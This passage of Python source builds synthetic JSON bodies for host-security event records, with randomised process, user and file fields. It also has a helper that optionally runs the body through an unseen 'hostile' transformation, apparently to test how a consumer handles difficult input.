        o.append(_SYSTEM % (os_name_j,
                            _REG_KEY_J if fam == "registry" else b'""'))
    u = b()
    o.append(_EXTEND[0] if u < 154 else _EXTEND[1] % (1 + w() % 9998)
             if u < 230 else _EXTEND[2])
    o += (b',"resource_info":', _frag_resource(p, e), b',"recommendation":',
          _RECS_J[b() % 4], b',"description":"')
    n = 300 + w() % 900 if b() < 13 else 3 + b() % 17     # words
    i = w() % (len(_TEXT_WORDS) // 2)
    o += (_TEXT[_TEXT_AT[i]:_TEXT_AT[i + n] - 1], b'","event_abstract":',
          _jb("%s on %s" % (t[2], h.name)), b',"event_details":', details_j,
          b',"tag_list":[', b",".join([_TAGS_J[g] for g in e.tags]),
          b'],"event_count":%d' % e.event_count)
    if fam in _PROC_FAMS or b() < 51:
        k8s = fam == "k8s"
        o += (b',"process_info_list":[', b",".join([
            _frag_process(p, h.os_type, k8s, b() % 16)
            for _ in range(1 + (b() < 38))]), b"]")
    if fam in _USER_FAMS or b() < 26:
        o.append(_USER % (
            w() % 65535, w() % 65535, user_j, _GROUPS_J[b() % 3],
            _HOMES_J[ui], _PUB_FIRST[b() % 6], b(), b(), 1 + b() % 254,
            _SERVICES[b() % 4], _SERVICE_PORTS[b() % 4], b() % 3,
            e.occur_time // 1000 - (w() << 8 | b()) % 2592000,   # seconds
            w() % 500, hx[_HX_SALT:_HX_SALT + 16],
            hx[_HX_PWD:_HX_PWD + 40], _FUZZ[b() & 1], w() % 900))
    if fam in _FILE_FAMS or b() < 26:
        files = []
        for k in range(1 + (b() < 38)):
            x = _HX_FILE + 160 * k
            path_j, alias_j, key_j = _FILES_J[b() % len(_FILES_J)]
            mt = 1600000000 + (w() << 16 | w()) % 100000000
            files.append(_FILE % (
                path_j, alias_j, (w() << 8 | b()) % 10 ** 7, mt, mt + 10,
                mt - 10, hx[x:x + 64], hx[x + 64:x + 96], hx[x + 96:x + 160],
                _FTYPES[b() % 3], _FCONTENTS_J[b() & 1], _FATTRS[b() % 3],
                _FOPS[b() % 3], _FACTIONS[b() % 4], _FCHANGES[b() % 3],
                key_j, b() % 64))
        o += (b',"file_info_list":[', b",".join(files), b"]")
    o.append(b"}")
    return b"".join(o)


def body_json(e, hostile):
    """The body of e as served: UTF-8 JSON."""
    if not hostile:
        return body_clean(e)
    d = json.loads(body_clean(e))
    _hostilize(d, e.idx, "")
    return to_json(d, True)
